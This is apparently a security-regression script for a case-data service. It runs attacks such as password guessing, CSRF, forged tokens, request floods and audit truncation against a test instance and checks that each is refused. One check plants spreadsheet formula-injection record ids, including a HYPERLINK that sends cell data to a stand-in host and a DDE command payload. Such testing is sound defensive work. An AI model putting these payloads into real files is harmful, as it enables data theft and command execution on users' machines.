"""Re-run the attacks of the security review against a served ctdata and print one line per attack.

    .venv/bin/python scripts/security_check.py                 # own instance: temporary data dir, free port
    .venv/bin/python scripts/security_check.py --url URL --admin NAME   # a running instance (password on stdin)

Each line: the attack, what ctdata must do, what it did, PASS or FAIL. The exit status
is 1 when any check fails. With its own instance the script also checks what only the
data directory shows (file modes, the audit rows written, CLI commands on the same
store); against a URL those checks are listed as SKIP.

The checks are deliberately the attacks themselves (HTTP requests, CLI commands, byte
searches), not calls into ctdata's code, so they hold whatever the implementation.
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import re
import secrets
import shutil
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx

P = "/api/v1"
PASSWORD = "check-" + secrets.token_urlsafe(12)
# a person with a distinctive name and document number, to search for after erasure
ERASE_NAME, ERASE_DOC = "Zqxwvbn" + secrets.token_hex(3), "ZX" + secrets.token_hex(5).upper()
SECRET_ORG = "Qpwoeirut Shelter " + secrets.token_hex(3)


class Report:
    def __init__(self) -> None:
        self.failed = 0
        self.rows = 0

    def line(self, attack: str, expected: str, result: str, ok: bool | None) -> None:
        verdict = "SKIP" if ok is None else "PASS" if ok else "FAIL"
        self.failed += ok is False
        self.rows += 1
        print(f"{verdict:4} | {attack} | expected: {expected} | got: {result}", flush=True)

    def check(self, attack: str, expected: str, fn: Callable[[], tuple[bool, str]]) -> None:
        try:
            ok, result = fn()
        except Exception as exc:  # a crash of the check is a failure of what it checks
            ok, result = False, f"error: {type(exc).__name__}: {str(exc)[:160]}"
        self.line(attack, expected, result, ok)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def client_from(base: str, source: str | None = None, **kw: Any) -> httpx.Client:
    """An HTTP client; `source` is a loopback address to connect from (127.0.0.2 ...: another client)."""
    transport = httpx.HTTPTransport(local_address=source) if source else None
    return httpx.Client(base_url=base, transport=transport, timeout=30, **kw)


class Instance:
    """`ctdata serve` on a temporary data directory, with an admin account made by the CLI."""

    def __init__(self) -> None:
        self.tmp = Path(tempfile.mkdtemp(prefix="ctdata-seccheck-"))
        self.data = self.tmp / "data"
        self.env = {**os.environ, "CTDATA_DATA_DIR": str(self.data)}
        self.env.pop("CTDATA_DATABASE_URL", None)
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.proc: subprocess.Popen[bytes] | None = None

    def cli(
        self, *args: str, stdin: str | None = None, env: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "-m", "ctdata.cli", *args],
            input=stdin,
            capture_output=True,
            text=True,
            env=env or self.env,
            timeout=600,
        )

    def start(self) -> None:
        r = self.cli("user", "add", "sec-admin", "--role", "admin", "--password-stdin", stdin=PASSWORD + "\n")
        if r.returncode != 0:
            raise SystemExit(f"cannot create the admin account: {r.stderr.strip()}")
        r = self.cli("agency", "add", "IOM", "--name", "International Organization for Migration")
        if r.returncode != 0:  # the accounts below name agency IOM, which must be registered
            raise SystemExit(f"cannot register agency IOM: {r.stderr.strip()}")
        self.log = (self.tmp / "serve.log").open("wb")
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "ctdata.cli", "serve", "--port", str(self.port)],
            env=self.env,
            stdout=self.log,
            stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                if httpx.get(f"{self.url}{P}/health", timeout=2).status_code == 200:
                    return
            except httpx.HTTPError:
                pass
            if self.proc.poll() is not None:
                break
            time.sleep(0.3)
        raise SystemExit(f"ctdata serve did not start; see {self.tmp / 'serve.log'}")

    def stop(self) -> None:
        """Stop the server as an operator would (Ctrl-C), so it writes what it holds."""
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGINT)
            try:
                self.proc.wait(30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()

    def db(self) -> sqlite3.Connection:
        return sqlite3.connect(f"file:{self.data / 'ctdata.db'}?mode=ro", uri=True)

    def cleanup(self) -> None:
        self.stop()
        shutil.rmtree(self.tmp, ignore_errors=True)


def login(c: httpx.Client, username: str, password: str) -> httpx.Response:
    return c.post(f"{P}/auth/login", json={"username": username, "password": password})


def token(c: httpx.Client, username: str, password: str = PASSWORD) -> dict[str, str]:
    r = login(c, username, password)
    r.raise_for_status()
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def run_checks(base: str, admin: str, admin_password: str, inst: Instance | None) -> Report:
    rep = Report()
    tag = secrets.token_hex(3)
    c = client_from(base)
    adm = token(c, admin, admin_password)
    names = {k: f"sec-{k}-{tag}" for k in ("th", "vn", "analyst", "dm", "victim")}
    roles = {
        "th": ("caseworker", "TH"),
        "vn": ("caseworker", "VN"),
        "analyst": ("analyst", None),
        "dm": ("data_manager", None),
        "victim": ("caseworker", "TH"),
    }
    for key, (role, office) in roles.items():
        body = {"username": names[key], "password": PASSWORD, "role": role}
        if role in ("caseworker", "data_manager"):
            body |= {"office_country": office, "agency": "IOM"}
        r = c.post(f"{P}/users", json=body, headers=adm)
        if r.status_code != 201:
            raise SystemExit(f"cannot create user {names[key]}: {r.status_code} {r.text[:200]}")
    th, vn, an, dm = (token(c, names[k]) for k in ("th", "vn", "analyst", "dm"))
    person = {
        "given_name": ERASE_NAME,
        "family_name": "Checkfamily",
        "id_document_number": ERASE_DOC,
        "sex": "female",
        "citizenship": ["VN"],
    }
    r = c.post(
        f"{P}/cases",
        headers=th,
        json={
            "person": person,
            "office_country": "TH",
            "registration_date": "2024-03-01",
            "consent": {"assistance": True, "sharing": [SECRET_ORG]},
        },
    )
    if r.status_code != 201:
        raise SystemExit(f"cannot register a case: {r.status_code} {r.text[:200]}")
    case_id = r.json()["id"]
    r = c.post(
        f"{P}/cases/{case_id}/assistance",
        headers=th,
        json={"assistance_type": "medical", "date": "2024-03-02", "provider": f"Dr {ERASE_NAME} clinic"},
    )
    if r.status_code != 201:
        raise SystemExit(f"cannot record assistance: {r.status_code} {r.text[:200]}")

    # --- login, lockout, CSRF, authorisation -------------------------------------------------------
    def login_basics() -> tuple[bool, str]:
        codes = (login(c, names["th"], "wrong-password").status_code, login(c, names["th"], PASSWORD).status_code)
        return codes == (401, 200), f"wrong password {codes[0]}, right password {codes[1]}"

    rep.check("login with a wrong and a right password", "401 then 200", login_basics)

    def same_message() -> tuple[bool, str]:
        answers = {
            "unknown user": login(c, f"nobody-{tag}", PASSWORD),
            "wrong password": login(c, names["vn"], "wrong-password"),
        }
        seen = {(r.status_code, r.text) for r in answers.values()}
        return len(seen) == 1, "; ".join(f"{k}: {r.status_code} {r.text[:60]}" for k, r in answers.items())

    rep.check("item 9: login as an unknown user vs a known one", "the same status and message", same_message)

    def lockout_per_source() -> tuple[bool, str]:
        stranger = client_from(base, "127.0.0.2")
        for _ in range(6):
            login(stranger, names["victim"], "guess-" + secrets.token_hex(4))
        locked = login(stranger, names["victim"], PASSWORD)
        wrong = login(stranger, names["victim"], "another-guess")
        owner = login(c, names["victim"], PASSWORD)
        ok = locked.status_code == 401 and owner.status_code == 200 and locked.text == wrong.text
        return ok, (
            f"stranger with the right password {locked.status_code} ({locked.text[:50]}), "
            f"owner from another address {owner.status_code}"
        )

    rep.check(
        "item 9: 6 wrong passwords for a known user from one address",
        "that address locked out with the usual message; the owner elsewhere signs in",
        lockout_per_source,
    )

    def csrf() -> tuple[bool, str]:
        browser = client_from(base)
        browser.get("/login")
        no_token = browser.post("/login", data={"username": names["th"], "password": PASSWORD})
        form = browser.get("/login")
        m = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
        data = {"username": names["th"], "password": PASSWORD, "csrf_token": m.group(1) if m else ""}
        r = browser.post("/login", data=data)
        signed_in = r.status_code == 303 and "ctdata_session" in browser.cookies
        post = browser.post(f"{P}/cases/{case_id}/close", json={"reason": "csrf test"})
        ok = no_token.status_code == 400 and signed_in and post.status_code == 403
        return ok, (
            f"login form without token {no_token.status_code}, signed in {signed_in}, "
            f"cookie POST without X-CSRF-Token {post.status_code}"
        )

    rep.check("CSRF: login without its token; a cookie-authenticated POST without the CSRF header", "400; 403", csrf)

    def authz() -> tuple[bool, str]:
        got = {
            "anonymous GET case": c.get(f"{P}/cases/{case_id}").status_code,
            "analyst GET users": c.get(f"{P}/users", headers=an).status_code,
            "other office GET case": c.get(f"{P}/cases/{case_id}", headers=vn).status_code,
            "forged token": c.get(f"{P}/cases", headers={"Authorization": "Bearer forged"}).status_code,
        }
        return list(got.values()) == [401, 403, 404, 401], ", ".join(f"{k} {v}" for k, v in got.items())

    rep.check("authorisation: anonymous, wrong role, other office, forged token", "401, 403, 404, 401", authz)

    def analyst_audit_tab() -> tuple[bool, str]:
        api = c.get(f"{P}/cases/{case_id}/audit", headers=an).status_code
        browser = client_from(base, headers={"accept": "text/html"})
        browser.cookies.set("ctdata_session", an["Authorization"].split()[1])
        page = browser.get(f"/cases/{case_id}/tabs/audit")
        leaked = names["th"] in page.text and "case.read" in page.text or page.status_code == 200
        return api in (403, 404) and not leaked, f"API {api}, page tab {page.status_code}"

    rep.check(
        "item 10: analyst reads a case's audit trail via API and the page tab", "refused by both", analyst_audit_tab
    )

    def analyst_free_text() -> tuple[bool, str]:
        r = c.get(f"{P}/cases/{case_id}", headers=an)
        leaked = [s for s in (SECRET_ORG, ERASE_NAME, ERASE_DOC) if s in r.text]
        return not leaked, f"{r.status_code}, identifying or free text seen: {leaked or 'none'}"

    rep.check("item 7: analyst reads a case (de-identified view)", "no names, no free text", analyst_free_text)

    def large_ids() -> tuple[bool, str]:
        browser = client_from(base, headers={"accept": "text/html"}, follow_redirects=False)
        browser.cookies.set("ctdata_session", th["Authorization"].split()[1])
        big = "9" * 30
        got = {
            "page": browser.get(f"/cases/{big}").status_code,
            "tab": browser.get(f"/cases/{big}/tabs/overview").status_code,
            "API": c.get(f"{P}/cases/{big}", headers=th).status_code,
        }
        ok = got["page"] == 404 and got["tab"] == 404 and got["API"] in (404, 422)
        return ok, ", ".join(f"{k} {v}" for k, v in got.items())

    rep.check("item 12: page and API routes with a 30-digit id", "404 (API: 404 or 422), never 500", large_ids)

    def disable_account() -> tuple[bool, str]:
        victim = token(c, names["victim"])
        before = c.get(f"{P}/auth/me", headers=victim).status_code
        browser = client_from(base, headers={"accept": "text/html"})
        browser.cookies.set("ctdata_session", adm["Authorization"].split()[1])
        page = browser.get("/admin/users")
        m = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        forged = browser.post(f"/admin/users/{names['victim']}/disable").status_code
        r = browser.post(f"/admin/users/{names['victim']}/disable", data={"csrf_token": m.group(1) if m else ""})
        after = c.get(f"{P}/auth/me", headers=victim).status_code
        relogin = login(c, names["victim"], PASSWORD).status_code
        browser.post(f"/admin/users/{names['victim']}/enable", data={"csrf_token": m.group(1) if m else ""})
        # the users page posts, then redirects (303)
        ok = (before, forged, r.status_code, after, relogin) == (200, 403, 303, 401, 401)
        return ok, (
            f"token before {before}, disable without CSRF {forged}, disable {r.status_code}, "
            f"token after {after}, sign-in after {relogin}"
        )

    rep.check(
        "item 8: an admin disables an account on /admin/users",
        "its live token stops at once, it cannot sign in; no CSRF, no change",
        disable_account,
    )

    # --- headers, docs, OpenAPI ----------------------------------------------------------------------
    def headers() -> tuple[bool, str]:
        r = c.get(f"{P}/cases/{case_id}", headers=th)
        page = client_from(base, headers={"accept": "text/html"})
        page.cookies.set("ctdata_session", th["Authorization"].split()[1])
        p = page.get(f"/cases/{case_id}")
        want = {"cache-control": "no-store", "x-content-type-options": "nosniff", "x-frame-options": "DENY"}
        missing = [
            f"{where} {k}"
            for where, resp in (("API", r), ("page", p))
            for k, v in want.items()
            if resp.headers.get(k) != v
        ]
        return not missing, "missing: " + (", ".join(missing) or "none")

    rep.check("item 14: headers of a case (API and page)", "no-store, nosniff, X-Frame-Options DENY", headers)

    def docs() -> tuple[bool, str]:
        r = c.get(f"{P}/docs")
        refs = re.findall(r'(?:src|href)=["\']([^"\']+)["\']', r.text)
        external = [u for u in refs if re.match(r"^(https?:)?//", u)]
        broken = [u for u in refs if not external and c.get(u).status_code != 200]
        return r.status_code == 200 and refs and not external and not broken, (
            f"{r.status_code}, {len(refs)} assets, external: {external or 'none'}, broken: {broken or 'none'}"
        )

    rep.check("item 14: /api/v1/docs offline", "every asset served by ctdata", docs)

    def openapi() -> tuple[bool, str]:
        spec = c.get(f"{P}/openapi.json").json()
        schemes = spec.get("components", {}).get("securitySchemes", {})
        bearer = [k for k, v in schemes.items() if v.get("scheme", "").lower() == "bearer"]
        secured = spec["paths"].get(f"{P}/cases", {}).get("get", {}).get("security")
        return bool(bearer and secured), f"bearer schemes {bearer}, GET /cases security {secured}"

    rep.check("item 14: OpenAPI declares the bearer scheme", "securitySchemes with bearer, used by /cases", openapi)

    # --- item 11: differencing on the portal ------------------------------------------------------------
    rep.line(
        "item 11: differencing portal totals",
        "no count below k recovered",
        "not run here (needs an approved release; tests/publish covers it)",
        None,
    )

    # --- item 5: flood of refused requests -----------------------------------------------------------
    flood_source, flood_n = "127.0.0.3", 300
    before = _denied_rows(inst) if inst else None
    flooder = client_from(base, flood_source)
    t0 = time.monotonic()
    codes = {flooder.get(f"{P}/cases/{i}").status_code for i in range(flood_n)}
    seconds = time.monotonic() - t0
    if inst is None:
        rep.line(
            f"item 5: {flood_n} refused requests", "a bounded number of audit rows", "SKIP: needs the data dir", None
        )
    else:
        added = _denied_rows(inst) - before  # type: ignore[operator]
        rep.line(
            f"item 5: {flood_n} refused requests in {seconds:.1f} s from one address",
            "at most a few audit rows while it runs",
            f"{added} rows added, answers {sorted(codes)}",
            added <= 4 and codes == {401},
        )

    # --- CLI on the same store while the server runs (item 1), link export (item 6), tiny store (16) --
    if inst is None:
        for what in (
            "item 1: concurrent CLI and server audit appends",
            "item 6: link export of formula ids",
            "item 16: link a 3-record store",
            "item 2: erasure leaves no bytes",
            "item 3: missing key file",
            "item 4: data dir modes",
            "item 13: read-only verify",
            "item 15: truncated audit chain",
        ):
            rep.line(what, "-", "SKIP: needs its own instance", None)
        return rep

    def concurrent_audit() -> tuple[bool, str]:
        stop = time.monotonic() + 15

        def reads() -> int:
            n = 0
            cl = client_from(base)
            while time.monotonic() < stop:
                cl.get(f"{P}/cases/{case_id}", headers=th)
                n += 1
            return n

        with ThreadPoolExecutor(4) as pool:
            readers = [pool.submit(reads) for _ in range(2)]
            clis = [pool.submit(inst.cli, "user", "list", "--json") for _ in range(6)]
            failed = [f.result() for f in clis if f.result().returncode != 0]
            n = sum(f.result() for f in readers)
        v = inst.cli("audit", "verify", "--json")
        problems = json.loads(v.stdout).get("problems", []) if v.stdout.strip().startswith("{") else [v.stderr]
        lines = failed[0].stderr.strip().splitlines() if failed else []
        # the line that names the error, not SQLAlchemy's closing "Background on this error" line
        named = [ln for ln in lines if "Error" in ln and not ln.startswith("(Background")] or lines or [""]
        why = f": {named[-1][:160]}" if failed else ""
        return v.returncode == 0 and not failed, f"{n} API reads, 6 CLI runs ({len(failed)} failed{why}), verify: " + (
            f"{len(problems)} problems, first: {problems[0][:80]}" if problems else "intact"
        )

    rep.check(
        "item 1: 6 CLI processes write audit entries while the server answers reads",
        "audit verify intact",
        concurrent_audit,
    )

    def link_export() -> tuple[bool, str]:
        sim = inst.tmp / "sim"
        r = inst.cli("simulate", "--records", "200", "--out", str(sim))
        if r.returncode != 0:
            return False, f"simulate failed: {r.stderr.strip()[-160:]}"
        rows = list(csv.DictReader((sim / "records.csv").open(encoding="utf-8")))
        evil = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"]
        for row, rid in zip(rows, evil, strict=False):
            row["record_id"] = rid
        path = inst.tmp / "evil.csv"
        with path.open("w", newline="", encoding="utf-8") as fh:
            w = csv.DictWriter(fh, fieldnames=list(rows[0]))
            w.writeheader()
            w.writerows(rows)
        for args in (
            ("import", "standard", str(path)),
            ("link",),
            ("link", "export", "--csv", str(inst.tmp / "out.csv")),
        ):
            r = inst.cli(*args)
            if r.returncode != 0:
                return False, f"`ctdata {' '.join(args[:2])}` failed: {(r.stderr or r.stdout).strip()[-160:]}"
        ids = {row["record_id"] for row in csv.DictReader((inst.tmp / "out.csv").open(encoding="utf-8"))}
        raw = [i for i in ids if i[:1] in "=+-@" and not re.fullmatch(r"[+-]?\d+(\.\d+)?", i)]
        return not raw, f"{len(ids)} ids exported, formula cells: {raw or 'none'}"

    rep.check(
        "item 6: record ids like =HYPERLINK(...) through `ctdata link export`", "written as text ('=...)", link_export
    )

    def tiny_link() -> tuple[bool, str]:
        env = {**inst.env, "CTDATA_DATA_DIR": str(inst.tmp / "tiny")}
        path = inst.tmp / "tiny.csv"
        path.write_text(
            "record_id,agency,office_country,registration_date,given_name,family_name\n"
            "T1,IOM,TH,2011-03-01,Anna,Lee\nT2,IOM,TH,2011-04-01,Bora,Kim\n"
            "T3,IOM,TH,2011-05-01,Chai,Wong\n",
            encoding="utf-8",
        )
        inst.cli("import", "standard", str(path), env=env)
        r = inst.cli("link", env=env)
        out = (r.stderr + r.stdout).strip()
        ok = (
            "Traceback" not in out
            and "math domain error" not in out
            and (r.returncode == 0 or len(out.splitlines()) == 1)
        )
        return ok, f"exit {r.returncode}: {out.splitlines()[-1][:120] if out else ''}"

    rep.check("item 16: `ctdata link` on a store of 3 records", "a clear answer, no crash", tiny_link)

    def erasure() -> tuple[bool, str]:
        inst.cli("warehouse", "build")  # a copy in the warehouse, which erasure must clear too
        # a reason that names the person would be one more copy of the name: it must be refused
        named = c.post(f"{P}/cases/{case_id}/erase", headers=dm, json={"reason": f"{ERASE_NAME} asked to be erased"})
        reason = {"reason": "the person asked to be erased (request on file)"}
        r = c.post(f"{P}/cases/{case_id}/erase", headers=dm, json=reason)
        if r.status_code != 200:
            r = c.post(f"{P}/cases/{case_id}/erase", headers=adm, json=reason)
        inst.cli("warehouse", "build")
        hits = _byte_search(inst.data, [ERASE_NAME.encode(), ERASE_DOC.encode()])
        ok = named.status_code == 422 and r.status_code == 200 and not hits
        return ok, f"reason naming the person {named.status_code}, erase {r.status_code}, found in: {hits or 'nothing'}"

    rep.check(
        "item 2: erase a person, then search the data dir's bytes for their name and document number",
        "a reason naming them refused (422); erased; found nowhere",
        erasure,
    )

    def read_only() -> tuple[bool, str]:
        copy = inst.tmp / "readonly"
        shutil.copytree(inst.data, copy)
        cmd = [sys.executable, "-m", "ctdata.cli", "audit", "verify"]
        if os.geteuid() == 0:  # root ignores file modes unless it gives up the capabilities that let it
            caps = "-dac_override,-dac_read_search"
            cmd = ["setpriv", "--bounding-set", caps, "--inh-caps", caps, "--", *cmd]
        for p in [copy, *copy.rglob("*")]:  # read-only: write permission taken away, nothing else given
            p.chmod(stat.S_IMODE(p.stat().st_mode) & ~0o222)
        env = {**inst.env, "CTDATA_DATA_DIR": str(copy), "HOME": str(inst.tmp)}
        r = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=300)
        out = (r.stdout + r.stderr).strip()
        w = subprocess.run([*cmd[:-2], "user", "list"], capture_output=True, text=True, env=env, timeout=300)
        wout = (w.stdout + w.stderr).strip()
        ok = r.returncode == 0 and "Traceback" not in out + wout and "unable to open database file" not in wout
        return ok, (
            f"verify exit {r.returncode}: {out.splitlines()[-1][:80] if out else ''}; "
            f"user list exit {w.returncode}: {wout.splitlines()[-1][:80] if wout else ''}"
        )

    rep.check(
        "item 13: a read-only copy of a live data dir (WAL and all): audit verify, then user list",
        "verifies; a clear one-line refusal to write",
        read_only,
    )

    # the server writes the refusal counts it holds when it stops
    inst.stop()

    def flood_counted() -> tuple[bool, str]:
        with inst.db() as db:
            rows = [
                json.loads(d) for (d,) in db.execute("SELECT details FROM audit_log WHERE action = 'access_denied'")
            ]
        counted = sum(int(d.get("count", 1)) for d in rows if d.get("client") == flood_source)
        n = sum(1 for d in rows if d.get("client") == flood_source)
        return counted == flood_n, f"{n} rows for {flood_source}, counts add up to {counted}"

    rep.check(f"item 5: the {flood_n} refusals are still counted", f"counts add up to {flood_n}", flood_counted)

    def modes() -> tuple[bool, str]:
        d, f = stat.S_IMODE(inst.data.stat().st_mode), stat.S_IMODE((inst.data / "ctdata.db").stat().st_mode)
        return d == 0o700 and f == 0o600, f"data dir {d:o}, ctdata.db {f:o}"

    rep.check("item 4: modes of a new data directory", "0700 and 0600", modes)

    def truncation() -> tuple[bool, str]:
        copy = inst.tmp / "truncated"
        shutil.copytree(inst.data, copy)
        with sqlite3.connect(copy / "ctdata.db") as db:
            for (name,) in db.execute(
                "SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'audit_log'"
            ).fetchall():
                db.execute(f'DROP TRIGGER "{name}"')
            db.execute("DELETE FROM audit_log WHERE id > (SELECT max(id) - 5 FROM audit_log)")
        r = inst.cli("audit", "verify", env={**inst.env, "CTDATA_DATA_DIR": str(copy)})
        return r.returncode != 0, f"exit {r.returncode}: {(r.stdout + r.stderr).strip()[:100]}"

    rep.check("item 15: delete the last 5 audit entries of a copy", "audit verify fails", truncation)

    def missing_key() -> tuple[bool, str]:
        keys = sorted((inst.data / "keys").glob("*")) if (inst.data / "keys").is_dir() else []
        if not keys:
            return False, "no key file found under data/keys"
        moved = inst.tmp / "key-aside"
        moved.mkdir()
        for k in keys:
            shutil.move(str(k), moved / k.name)
        path = inst.tmp / "more.csv"
        path.write_text(
            "record_id,agency,office_country,registration_date,given_name,family_name\nK1,IOM,TH,2011-03-01,Dara,Sok\n",
            encoding="utf-8",
        )
        r = inst.cli("import", "standard", str(path))
        made = sorted(p.name for p in (inst.data / "keys").glob("*")) if (inst.data / "keys").is_dir() else []
        out = (r.stderr + r.stdout).strip()
        ok = r.returncode != 0 and not made and "Traceback" not in out
        return ok, f"exit {r.returncode}, new key files {made or 'none'}: {out.splitlines()[-1][:100] if out else ''}"

    rep.check("item 3: import with the key file gone", "refused with one line, no new key", missing_key)
    return rep


def _denied_rows(inst: Instance) -> int:
    with inst.db() as db:
        return int(db.execute("SELECT count(*) FROM audit_log WHERE action = 'access_denied'").fetchone()[0])


def _byte_search(root: Path, needles: list[bytes]) -> list[str]:
    hits = []
    for p in root.rglob("*"):
        if p.is_file():
            data = p.read_bytes()
            hits += [f"{p.relative_to(root)} ({n.decode()})" for n in needles if n in data or n.lower() in data]
    return hits


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--url", help="check a running instance instead of starting one")
    ap.add_argument("--admin", help="an admin account of that instance (its password on stdin)")
    ap.add_argument("--keep", action="store_true", help="keep the temporary data directory")
    args = ap.parse_args()
    inst = None
    if args.url:
        if not args.admin:
            ap.error("--url needs --admin NAME (and the password on stdin)")
        base, admin, password = args.url.rstrip("/"), args.admin, sys.stdin.readline().rstrip("\n")
    else:
        inst = Instance()
        inst.start()
        base, admin, password = inst.url, "sec-admin", PASSWORD
        print(f"ctdata serve on {base}, data dir {inst.data}", flush=True)
    try:
        rep = run_checks(base, admin, password, inst)
    finally:
        if inst is not None:
            if args.keep:
                inst.stop()
                print(f"kept {inst.tmp}")
            else:
                inst.cleanup()
    print(f"{rep.rows} checks, {rep.failed} failed", flush=True)
    sys.exit(1 if rep.failed else 0)


if __name__ == "__main__":
    main()
